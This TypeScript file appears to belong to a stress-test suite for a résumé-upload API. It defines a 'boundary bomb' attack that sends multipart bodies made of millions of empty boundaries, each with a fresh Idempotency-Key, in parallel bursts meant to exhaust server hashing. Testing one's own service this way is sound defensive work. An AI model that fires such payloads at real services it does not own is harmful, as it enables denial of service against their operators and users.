import { randomUUID } from 'node:crypto';
import { type Attack, attempts, UPLOAD_BYTES } from './attack.ts';

const BOUNDARY = '--b';
const BOMB = BOUNDARY.repeat(UPLOAD_BYTES / BOUNDARY.length);

/** Class 2: a form of nothing but boundaries, whose `Idempotency-Key` has it hashed part by part. */
export const boundaryBomb: Attack = {
  name: 'forms of millions of parts with Idempotency-Key',
  run: (attacker) =>
    attempts(attacker, { parallel: 3, everyMs: 500 }, () =>
      attacker.client.ask('POST', '/v1/resumes', {
        token: attacker.accounts[0].token,
        headers: { 'content-type': 'multipart/form-data; boundary=b', 'idempotency-key': randomUUID() },
        body: BOMB,
      }),
    ),
};
